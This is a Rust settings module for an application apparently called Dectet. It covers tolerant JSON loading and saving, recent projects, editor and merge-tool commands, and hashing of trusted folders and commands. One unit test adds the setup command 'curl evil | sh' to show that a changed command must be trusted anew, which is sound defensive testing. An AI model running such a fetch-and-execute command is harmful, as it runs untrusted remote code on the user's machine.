//! What Dectet remembers of a person, outside every project: recent projects, looks, language, the window, and which
//! folders and commands they trust. One JSON file, read tolerantly: a broken field costs that field alone, and what a
//! newer Dectet wrote stays.

mod preferences;

use std::path::{Path, PathBuf};
use std::sync::{Mutex, OnceLock, PoisonError};

use etcetera::BaseStrategy;
use serde::de::DeserializeOwned;
use serde::{Deserialize, Serialize};
use serde_json::{Map, Value};

pub use preferences::{Preferences, Welcome, ZOOM};

use crate::engine::disk;
use crate::model::manifest::Manifest;
use crate::model::problem::{Place, Problem};

/// How many recent projects are remembered.
const RECENT_LIMIT: usize = 20;

/// What is remembered of a person.
#[derive(Clone, Debug, Default, PartialEq)]
pub struct Settings {
    /// Projects that were open, newest first.
    pub recent: Vec<Recent>,
    /// Dark, light, or as the system.
    pub theme: Theme,
    /// The language's code; `None`: as the system.
    pub language: Option<String>,
    /// Where the window was.
    pub window: Option<WindowPlace>,
    /// What the person likes.
    pub preferences: Preferences,
    /// What was on the screen last; `None`: no project.
    pub last: Option<LastPlace>,
    /// Hashes of what is trusted; see [`trust_key`].
    pub trusted: Vec<String>,
    /// Everything else in the file: kept as it stands.
    other: Map<String, Value>,
}

/// A project that was open.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[allow(missing_docs)]
pub struct Recent {
    pub name: String,
    pub folder: PathBuf,
}

/// What was on the screen: comes back after a restart, and after a crash.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
#[allow(missing_docs)]
pub struct LastPlace {
    pub folder: PathBuf,
    /// It was opened as loose team outputs.
    #[serde(default)]
    pub is_loose: bool,
    /// The view's name among the words.
    #[serde(default)]
    pub view: String,
    #[serde(default)]
    pub team: Option<String>,
    #[serde(default)]
    pub mega_file: Option<String>,
    #[serde(default)]
    pub conflict: Option<String>,
}

/// Dark, light, or as the system.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
#[allow(missing_docs)]
pub enum Theme {
    #[default]
    System,
    Dark,
    Light,
}

/// Where the window was, in points.
#[derive(Clone, Copy, Debug, PartialEq, Serialize, Deserialize)]
#[allow(missing_docs)]
pub struct WindowPlace {
    pub width: f32,
    pub height: f32,
    #[serde(default)]
    pub x: Option<f32>,
    #[serde(default)]
    pub y: Option<f32>,
    #[serde(default)]
    pub maximized: bool,
}

static ELSEWHERE: OnceLock<PathBuf> = OnceLock::new();

/// Keeps the settings of this process in another folder; the first call counts. For tests, which must not touch those
/// of the person who runs them.
pub fn keep_in(folder: &Path) {
    let _ = ELSEWHERE.set(folder.to_path_buf());
}

/// Where settings live: `DECTET_CONFIG_DIR`, else the system's place for them.
pub fn folder() -> Result<PathBuf, Problem> {
    if let Some(folder) = ELSEWHERE.get() {
        return Ok(folder.clone());
    }
    if let Some(folder) = std::env::var_os("DECTET_CONFIG_DIR").filter(|value| !value.is_empty()) {
        return Ok(PathBuf::from(folder));
    }
    etcetera::choose_base_strategy()
        .map(|strategy| strategy.config_dir().join("dectet"))
        .map_err(|error| Problem::error("settings-no-home").with("error", error))
}

/// The settings' file.
pub fn file() -> Result<PathBuf, Problem> {
    Ok(folder()?.join("settings.json"))
}

impl Settings {
    /// The settings as they are on disk; defaults for whatever is missing or cannot be read.
    pub fn load() -> Self {
        file().map_or_else(|_| Self::default(), |file| Self::load_from(&file))
    }

    fn load_from(file: &Path) -> Self {
        let bytes = disk::read_if_there(file).ok().flatten().unwrap_or_default();
        let mut other = match serde_json::from_slice(&bytes) {
            Ok(Value::Object(map)) => map,
            _ => Map::new(),
        };
        Self {
            recent: take_list(&mut other, "recent"),
            theme: take(&mut other, "theme").unwrap_or_default(),
            language: take(&mut other, "language").unwrap_or_default(),
            window: take(&mut other, "window").unwrap_or_default(),
            preferences: Preferences::take_from(&mut other),
            last: take(&mut other, "last").unwrap_or_default(),
            trusted: take_list(&mut other, "trusted"),
            other,
        }
    }

    fn save_to(&self, file: &Path) -> Result<(), Problem> {
        let mut map = Map::new();
        let mut put = |name: &str, value: serde_json::Result<Value>| {
            if let Ok(value) = value
                && !value.is_null()
            {
                map.insert(name.to_owned(), value);
            }
        };
        put("recent", serde_json::to_value(&self.recent));
        put("theme", serde_json::to_value(self.theme));
        put("language", serde_json::to_value(&self.language));
        put("window", serde_json::to_value(self.window));
        self.preferences.put_into(&mut put);
        put("last", serde_json::to_value(&self.last));
        put("trusted", serde_json::to_value(&self.trusted));
        map.extend(self.other.clone());
        let mut text = format!("{:#}", Value::Object(map));
        text.push('\n');
        disk::write_atomic(file, text.as_bytes()).map(|_| ())
    }
}

/// Changes the settings on disk: read, changed and written at once, so that two windows do not undo each other's.
pub fn update(change: impl FnOnce(&mut Settings)) -> Result<Settings, Problem> {
    update_in(&file()?, change)
}

fn update_in(file: &Path, change: impl FnOnce(&mut Settings)) -> Result<Settings, Problem> {
    // Two lanes of one window must not undo each other's either.
    static ONE_AT_A_TIME: Mutex<()> = Mutex::new(());
    let _alone = ONE_AT_A_TIME.lock().unwrap_or_else(PoisonError::into_inner);
    let mut settings = Settings::load_from(file);
    change(&mut settings);
    settings.save_to(file).map_err(|problem| not_kept(file, &problem))?;
    Ok(settings)
}

fn not_kept(file: &Path, problem: &Problem) -> Problem {
    let folder = disk::show(file.parent().unwrap_or(file));
    Problem::warning("settings-not-kept").with("path", &folder).with("why", problem.id).at(Place::file(folder))
}

fn take<T: DeserializeOwned>(map: &mut Map<String, Value>, name: &str) -> Option<T> {
    map.shift_remove(name).and_then(|value| serde_json::from_value(value).ok())
}

fn take_list<T: DeserializeOwned>(map: &mut Map<String, Value>, name: &str) -> Vec<T> {
    let list: Vec<Value> = take(map, name).unwrap_or_default();
    list.into_iter().filter_map(|value| serde_json::from_value(value).ok()).collect()
}

/// Puts a project first among the recent ones.
pub fn remember_project(name: &str, folder: &Path) -> Result<Settings, Problem> {
    update(|settings| put_first(settings, name, folder))
}

fn put_first(settings: &mut Settings, name: &str, folder: &Path) {
    settings.recent.retain(|recent| recent.folder != folder);
    settings.recent.insert(0, Recent { name: name.to_owned(), folder: folder.to_path_buf() });
    settings.recent.truncate(RECENT_LIMIT);
}

/// Takes a project off the list of recent ones.
pub fn forget_project(folder: &Path) -> Result<Settings, Problem> {
    update(|settings| settings.recent.retain(|recent| recent.folder != folder))
}

/// The agent of teams that are added, if the person has said one.
pub fn default_agent() -> Option<String> {
    Some(Settings::load().preferences.default_agent).filter(|agent| !agent.is_empty())
}

/// Program and arguments that open a file at a line (from 1) in the person's editor; `None`: the system's own is meant.
pub fn editor_command(file: &Path, line: u32) -> Option<Vec<String>> {
    editor_words(&Settings::load().preferences.editor, file, line)
}

/// The same, of a command as a person wrote it.
pub fn editor_words(command: &str, file: &Path, line: u32) -> Option<Vec<String>> {
    let (file, line) = (disk::show(file), line.to_string());
    let values: &[(&str, &str)] =
        if command.contains("{line}") { &[("file", &file), ("line", &line)] } else { &[("file", &file)] };
    preferences::command_line(command, values)
}

/// Program and arguments that merge two versions over their base into a result in the person's merge tool; `None`: they
/// have named none.
pub fn merge_tool_command(base: &Path, mine: &Path, theirs: &Path, result: &Path) -> Option<Vec<String>> {
    merge_tool_words(&Settings::load().preferences.merge_tool, base, mine, theirs, result)
}

/// The same, of a command as a person wrote it.
pub fn merge_tool_words(command: &str, base: &Path, mine: &Path, theirs: &Path, result: &Path) -> Option<Vec<String>> {
    let shown = [base, mine, theirs, result].map(disk::show);
    let values = [("base", &*shown[0]), ("mine", &*shown[1]), ("theirs", &*shown[2]), ("result", &*shown[3])];
    preferences::command_line(command, &values)
}

/// Whether the window may call for a person who is elsewhere.
pub fn notifications() -> bool {
    Settings::load().preferences.notifications
}

/// What trust is given to: this folder, and exactly these commands. A changed command has to be trusted anew.
pub fn trust_key(root: &Path, manifest: &Manifest) -> String {
    let commands = serde_json::json!({
        "folder": disk::show(root),
        "agents": manifest.agents,
        "setup": manifest.run.setup,
        "validation": manifest.validation.commands,
    });
    blake3::hash(commands.to_string().as_bytes()).to_hex().to_string()
}

/// Whether the person has said that this folder and these commands are trusted.
pub fn is_trusted(root: &Path, manifest: &Manifest) -> bool {
    Settings::load().trusted.contains(&trust_key(root, manifest))
}

/// Remembers that the person trusts this folder and these commands.
pub fn trust(root: &Path, manifest: &Manifest) -> Result<(), Problem> {
    let key = trust_key(root, manifest);
    update(|settings| {
        if !settings.trusted.contains(&key) {
            settings.trusted.push(key);
        }
    })
    .map(|_| ())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_broken_field_costs_that_field_alone() {
        let folder = tempfile::tempdir().expect("folder");
        let file = folder.path().join("sub/settings.json");
        let text =
            r#"{"theme": 7, "language": "sv", "recent": [{"name": "a", "folder": "/a"}, 3], "from-the-future": {"x": [1]}}"#;
        disk::write_atomic(&file, text.as_bytes()).expect("write");
        let settings = update_in(&file, |settings| put_first(settings, "b", Path::new("/b"))).expect("update");
        assert_eq!((settings.theme, settings.language.as_deref()), (Theme::System, Some("sv")));
        let names = |settings: &Settings| settings.recent.iter().map(|recent| recent.name.clone()).collect::<Vec<_>>();
        assert_eq!(names(&settings), ["b", "a"]);
        let again = update_in(&file, |settings| put_first(settings, "a", Path::new("/a"))).expect("update");
        assert_eq!(names(&again), ["a", "b"]);
        assert_eq!(again.other["from-the-future"]["x"][0], 1);
        assert_eq!(Settings::load_from(&file), again);
        disk::write_atomic(&file, b"{ broken").expect("write");
        assert_eq!(Settings::load_from(&file), Settings::default());
    }

    #[test]
    fn where_nothing_can_be_kept_it_says_what_that_costs() {
        let folder = tempfile::tempdir().expect("folder");
        let in_the_way = folder.path().join("file");
        disk::write_atomic(&in_the_way, b"").expect("write");
        let problem = update_in(&in_the_way.join("dectet/settings.json"), |_| ()).expect_err("no place");
        assert_eq!(problem.id, "settings-not-kept");
        assert_eq!(problem.args, [("path", disk::show(&in_the_way.join("dectet"))), ("why", "disk-not-a-folder".to_owned())]);
    }

    #[test]
    fn trust_is_for_one_folder_and_its_commands() {
        use crate::model::manifest::CommandLine;
        let mut manifest = Manifest::default();
        let key = trust_key(Path::new("/a"), &manifest);
        assert_ne!(key, trust_key(Path::new("/b"), &manifest));
        manifest.project.name = "words alone change nothing".into();
        assert_eq!(key, trust_key(Path::new("/a"), &manifest));
        manifest.run.setup.push(CommandLine::Shell("curl evil | sh".into()));
        assert_ne!(key, trust_key(Path::new("/a"), &manifest));
    }
}
